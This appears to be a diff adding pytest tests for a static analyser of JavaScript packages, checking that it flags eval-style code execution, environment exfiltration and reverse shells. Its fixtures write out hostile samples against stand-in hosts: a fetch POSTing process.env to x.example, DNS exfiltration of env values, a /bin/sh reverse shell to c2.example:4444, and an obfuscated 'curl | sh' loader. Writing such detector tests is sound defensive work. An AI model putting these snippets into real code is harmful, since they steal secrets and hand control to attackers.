@@ -1,0 +1,102 @@
+"""What JavaScript makes of texts and bytes, and hands to interpreters, is followed."""
+
+import pytest
+from tests.static.reading import seen, short
+
+from biopsy.model.behaviour import When
+
+
+def js(code: str, when: When = When.IMPORT) -> list[str]:
+    return seen(code, "index.js", when)
+
+
+PAYLOAD = "fetch('https://x.example/u', { method: 'POST', body: JSON.stringify(process.env) })"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "require('child_process').spawn(process.execPath, ['-e', CODE], { detached: true }).unref()",
+        "require('child_process').execFileSync('node', ['--eval', CODE])",
+        "require('vm').runInThisContext('(function (require) {' + CODE + '})')(require)",
+        "new (require('vm').Script)('(function () {' + CODE + '})').runInThisContext()()",
+        "new Function('r', CODE)(require)",
+        "const M = require('module'); const m = new M('x'); m._compile(CODE, 'x')",
+        "new module.constructor()._compile(CODE, '')",
+        "new (require('worker_threads').Worker)(CODE, { eval: true })",
+    ],
+)
+def test_what_a_text_is_made_into_runs_at_the_moment_of_its_call(code: str) -> None:
+    assert "code.flow env:* > network @ index.js:1 (install)" in js(
+        code.replace("CODE", repr(PAYLOAD).replace("\\'", "\\'")), When.INSTALL
+    )
+
+
+def test_a_function_made_of_a_text_gets_what_it_is_called_with() -> None:
+    code = """new Function('r', "r('child_process').exec('id -u')")(require)"""
+    assert "process.exec id -u @ index.js:1 (import)" in js(code)
+
+
+@pytest.mark.parametrize(
+    "loop",
+    [
+        "const out = Object.keys(process.env).map((k) => process.env[k]).join('')",
+        "let out = ''; for (const k in process.env) out += process.env[k]",
+        "let out = ''; for (const k of Object.keys(process.env)) { out += k + process.env[k] }",
+    ],
+)
+def test_variables_that_are_taken_name_by_name_are_the_environment(loop: str) -> None:
+    code = f"{loop}\nrequire('dns').lookup(out.slice(0, 60) + '.x.example', () => {{}})"
+    assert "code.flow env:* > network" in short(js(code))
+
+
+def test_names_of_variables_alone_are_not_their_values() -> None:
+    code = "fetch('https://x.example/', { method: 'POST', body: Object.keys(process.env).length })"
+    assert not any("env:*" in b for b in js(code))
+
+
+@pytest.mark.parametrize(
+    "ties",
+    [
+        "wire.pipe(sh.stdin); sh.stdout.pipe(wire)",
+        "wire.on('data', (d) => sh.stdin.write(d))",
+    ],
+)
+def test_a_shell_that_a_connection_steers_is_a_reverse_shell(ties: str) -> None:
+    code = f"""
+const wire = require('net').connect(4444, 'c2.example', () => {{
+  const sh = require('child_process').spawn('/bin/sh', ['-i'])
+  {ties}
+}})
+"""
+    assert "process.does reverse-shell piped" in short(js(code))
+
+
+def test_other_programs_that_a_connection_feeds_are_not() -> None:
+    code = """
+const wire = require('net').connect(4444, 'c2.example', () => {
+  const tar = require('child_process').spawn('tar', ['-x'])
+  wire.pipe(tar.stdin)
+})
+"""
+    assert not any("reverse-shell" in b for b in js(code))
+
+
+def test_an_array_that_is_turned_before_it_is_asked_is_turned() -> None:
+    code = """
+const a = ['exec', 'child_process', 'curl https://x.example | sh'];
+(function (a, n) { while (n--) a['push'](a['shift']()) })(a, 0x1);
+const f = (i) => a[i - 0x10];
+require(f(0x10))[f(0x12)](f(0x11))
+"""
+    assert "process.exec curl https://x.example | sh" in short(js(code))
+
+
+@pytest.mark.parametrize("endless", ["let i = 1; while (i < 2) { i += 0 }", "let i = 9; while (i--) i += 2"])
+def test_a_loop_without_end_does_not_keep_the_rest_from_being_read(endless: str) -> None:
+    assert "process.exec id -u" in short(js(f"{endless}\nrequire('child_process').exec('id -u')"))
+
+
+def test_callbacks_that_connect_again_and_again_end() -> None:
+    code = "const go = () => { const s = require('net').connect(1, 'x.example', () => go()) }; go()"
+    assert "net.connect x.example:1" in short(js(code))
